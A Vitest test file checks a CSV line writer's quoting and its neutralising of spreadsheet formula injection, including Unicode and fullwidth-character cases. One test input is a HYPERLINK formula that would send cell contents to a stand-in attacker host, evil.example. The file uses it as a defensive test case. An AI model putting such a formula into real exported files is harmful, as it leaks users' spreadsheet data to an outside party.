import { expect, test } from 'vitest'
import { csvLine } from './csv.ts'

test.each([
  [['a', 'b c', ''], 'a,b c,'],
  [['a,b', 'say "hi"', 'two\nlines', 'two\r\nlines'], '"a,b","say ""hi""","two\nlines","two\r\nlines"'],
  [['Zoë 🌍', 'مرحبا'], 'Zoë 🌍,مرحبا'],
  [['=1+1', '+1', '-1', '@SUM(A1)'], "'=1+1,'+1,'-1,'@SUM(A1)"],
  [['\t=1', '\r=1', '\n=1'], '\'\t=1,"\'\r=1","\'\n=1"'],
  [['=HYPERLINK("https://evil.example?"&A1,"x")'], '"\'=HYPERLINK(""https://evil.example?""&A1,""x"")"'],
  [['＝1', '＋1', '－1', '＠A'], "'＝1,'＋1,'－1,'＠A"],
  [['a=b', '1-1', 'a@b.cd'], 'a=b,1-1,a@b.cd'],
])('%j', (cells, line) => {
  expect(csvLine(cells)).toBe(`${line}\r\n`)
})
